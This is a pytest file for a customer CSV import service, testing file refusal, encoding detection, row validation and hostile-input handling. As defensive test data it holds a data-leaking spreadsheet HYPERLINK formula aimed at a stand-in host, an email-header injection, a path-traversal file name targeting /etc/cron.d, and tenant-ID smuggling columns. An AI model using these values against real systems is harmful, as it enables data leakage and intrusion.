"""Files as people have them: what can't be read is refused by what it is, a bad row by its line, the rest comes in."""

from __future__ import annotations

import csv
import gzip
import io
import json
from collections.abc import AsyncIterator

import pytest

from models import Customer, Import, ImportRejection
from services.errors import Conflict, Invalid, TooLarge
from services.imports import ImportChoices, begin_import, choose_columns, read_rejected, receiving
from tests.cast import Cast
from tests.imports.whole_way import at_rest, chunks_of, imported, looked_at


async def addresses(cast: Cast) -> set[str]:
    held = await Customer.filter(business_id=cast.mallorys_business_id).values_list("email", flat=True)
    return set(held) - {"jane@acme.example"}


REFUSED = [
    (b"", "The file is empty."),
    (b"\n \n", "The file is empty."),
    (b"PK\x03\x04" + b"0" * 100, "This is a ZIP or Excel file."),
    (gzip.compress(b"0" * 10**7), "This is a gzip file."),
    (b"\xd0\xcf\x11\xe0\xa1\xb1" + b"0" * 100, "This is an old Excel file."),
    (bytes(range(256)) * 40, "This file holds no text."),
    ((",".join(["email"] + ["c"] * 10**6) + "\n").encode(), "more than 200 columns"),
    (b"email,name\n", "a header and no rows"),
    (b"name\nx\n", "No column of the file holds email addresses."),
    (b'email,name\n"a@b.co,x\nd@e.co,y\n', "Line 2 can't be read: a quotation mark in it is not closed."),
    (b'email,name\na@b.co,x\nc@d.co,"y"z"\n', "Line 3 can't be read"),
    (b"email,name\na@b.co," + b"x" * 3 * 2**20, "Line 2 can't be read"),
]
READ = [
    "email\na@b.co\n".encode("utf-16"),
    "email,name\na@b.co,José\n".encode("utf-16-le"),
    "email,name\na@b.co,José\n".encode("utf-8-sig"),
    "email,name\na@b.co,José\n".encode("cp1252"),
    b"email;name\na@b.co;x\n",
    b"email\tname\r\na@b.co\tx\r\n",
    b"email|name\na@b.co|x",
    b"sep=;\nemail;name\na@b.co;x\n",
    b"email\ra@b.co\r",
    b"email,name\na@b.co\n",
    b"\n\nemail,name,,\n\na@b.co,x,,\n\n",
    "email\n\u200ba@b.co \n".encode(),
    b'"E-Mail-Adresse","Nom"\n"A@B.co","x ""y"" z"\n',
    b'email,height\na@b.co,5" tall\n',
]
# Email, Name, Total Spent, Payment Count, Last Payment Date; each the only thing wrong with its row.
BAD_ROWS = [
    ("a@b.co; c@d.co,x", "not one address"),
    ("a@b.co c@d.co,x", "not one address"),
    ('"a@b.co\nBcc: evil@z.co",x', "not one address"),
    ("a@localhost,x", "not one address"),
    ("a@b..co,x", "not one address"),
    ("a@b.co.test.local,x", "not one address"),
    (f"a@{'b' * 64}.co,x", "not one address"),
    (f"a@{'b.' * 130}co,x", "not one address"),
    ("nobody,x", "not one address"),
    (",x", "The address is missing."),
    ("a@b.co,", "The name is missing."),
    ("a@b.co,\u200b \u00a0", "The name is missing."),
    ("a@b.co,x\x00y", "NUL"),
    ("a@b.co,x,1,1,2026-01-01,more", "more cells"),
    (f"a@b.co,{'x' * 301}", "too long"),
    ("a@b.co,x,NaN", "not an amount"),
    ("a@b.co,x,inf", "not an amount"),
    ("a@b.co,x,1e309", "not an amount"),
    ("a@b.co,x,9999999999999", "not an amount"),
    ("a@b.co,x,12 apples", "not an amount"),
    ("a@b.co,x,-5", "can't be negative"),
    ("a@b.co,x,(5.00)", "can't be negative"),
    ("a@b.co,x,5-", "can't be negative"),
    ("a@b.co,x,,2.5", "not a number of payments"),
    ("a@b.co,x,,99999999999", "not a number of payments"),
    ("a@b.co,x,,,2026-02-30", "not a date"),
    ("a@b.co,x,,,0026-02-03", "not a date"),
    ("a@b.co,x,,,soon", "not a date"),
]


async def test_a_file_that_cannot_be_read_is_refused_whole(cast: Cast) -> None:
    for data, words in REFUSED:
        try:
            seen = await looked_at(cast.mallory, cast.mallorys_business_id, data)
        except Invalid as refused:
            assert words in refused.message
            assert not await Import.filter(state="uploading").exists()
            continue
        assert seen.why is not None, words
        assert seen.state == "failed" and words in seen.why[0]
        with pytest.raises(Conflict):
            await choose_columns(cast.mallory, seen.id, ImportChoices({"email": 0}, name_from_address=True))
    assert await addresses(cast) == set()


async def test_a_file_over_the_limit_is_refused_while_it_streams(cast: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(receiving, "MAX_BYTES", 3 * 2**20)
    sent = 0

    async def endless() -> AsyncIterator[bytes]:
        nonlocal sent
        while True:
            sent += 2**16
            yield b"a@b.co\n" * (2**16 // 7)

    with pytest.raises(TooLarge, match="larger than 3 MB"):
        await begin_import(cast.mallory, cast.mallorys_business_id, "endless.csv", endless())
    assert sent < 4 * 2**20
    assert not await Import.filter(state="uploading").exists()


async def test_encodings_delimiters_and_line_ends_are_seen(cast: Cast) -> None:
    for data in READ:
        seen = await imported(cast.mallory, cast.mallorys_business_id, data, name_from_address=True)
        assert (seen.result.added, seen.rejected) == (1, 0), data
        customer = await Customer.get(business_id=cast.mallorys_business_id, email="a@b.co")
        assert customer.name in ("José", "x", 'x "y" z', "a"), data
        await customer.delete()


async def test_a_bad_row_is_named_with_its_line_and_reason(cast: Cast) -> None:
    """A row of two lines stands in front of each; the rows with nothing wrong come in."""
    lines, expected = ["email,name,Total Spent,Payment Count,Last Payment Date"], []
    for number, (row, why) in enumerate(BAD_ROWS):
        lines += [f'ok{number}@b.co,"two', 'lines"']
        expected.append((str(len("\n".join(lines).split("\n")) + 1), why))
        lines.append(row)
    seen = await imported(cast.mallory, cast.mallorys_business_id, "\n".join(lines).encode())
    assert await addresses(cast) == {f"ok{number}@b.co" for number in range(len(BAD_ROWS))}
    assert seen.preview and (seen.preview.new, seen.preview.rejected) == (len(BAD_ROWS), len(BAD_ROWS))
    told = list(csv.reader(io.StringIO((await read_rejected(cast.mallory, seen.id)).lines)))[1:]
    for (line, why), (its_line, reason, *_cells) in zip(expected, told, strict=True):
        assert (its_line, why in reason) == (line, True), (why, reason)


async def test_named_columns_of_few_values_are_read_in_any_language_or_refused(cast: Cast) -> None:
    data = (
        b"email,name,Langue,Fuseau horaire,Segment\n"
        b"a@b.co,A,German,europe/paris,Off target\nc@d.co,C,allemand,UTC,client\ne@f.co,E,Klingonian,UTC,client\n"
        b"g@h.co,G,fr-CA,Mars/Olympus,client\ni@j.co,I,en_GB,,whale\n"
    )
    columns = {"language": 2, "timezone": 3, "segment": 4}
    seen = await imported(cast.mallory, cast.mallorys_business_id, data, columns=columns)
    held = {c.email: c for c in await Customer.filter(business_id=cast.mallorys_business_id)}
    assert (held["a@b.co"].language, held["a@b.co"].timezone) == ("de", "Europe/Paris")
    assert (held["a@b.co"].segment, held["c@d.co"].language) == ("off-target", "de")
    reasons = await ImportRejection.filter(of_import_id=seen.id).order_by("line").values_list("line", "reason")
    assert reasons == [(4, "language"), (5, "timezone"), (6, "segment")]


async def test_a_formula_is_kept_as_it_is_and_harmless_where_it_goes_out(cast: Cast) -> None:
    formula = '=HYPERLINK("http://e/"&A1)'
    quoted = formula.replace('"', '""')
    data = f'email,=name\na@b.co,"{quoted}"\nbad,"{quoted}"\n'.encode()
    seen = await imported(cast.mallory, cast.mallorys_business_id, data, columns={"name": 1})
    assert (await Customer.get(business_id=cast.mallorys_business_id, email="a@b.co")).name == formula
    lines = (await read_rejected(cast.mallory, seen.id)).lines
    assert "'=name" in lines and f"'{quoted}" in lines
    held = await ImportRejection.get(of_import_id=seen.id)
    assert list(json.loads(held.cells).values()) == ["bad", formula]


async def test_the_name_of_a_file_is_shown_and_leads_nowhere(cast: Cast) -> None:
    name = "../../etc/cron.d/\u202ex.csv\x00" + "x" * 300
    made = await begin_import(cast.mallory, cast.mallorys_business_id, name, chunks_of(b"email,name\na@b.co,x\n"))
    shown = (await at_rest(cast.mallory, made)).file_name
    assert shown.startswith("../../etc/cron.d/x.csv") and len(shown) == 200


async def test_a_column_that_names_a_tenant_is_a_fact_and_decides_nothing(cast: Cast) -> None:
    data = f"email,name,company_id,team_id,business_id,id\na@b.co,x,{cast.business_id},1,1,1\n".encode()
    await imported(cast.mallory, cast.mallorys_business_id, data)
    customer = await Customer.get(email="a@b.co")
    assert (customer.team_id, customer.business_id) == (cast.mallory.team_id, cast.mallorys_business_id)
    assert customer.facts["team_id"] == "1"
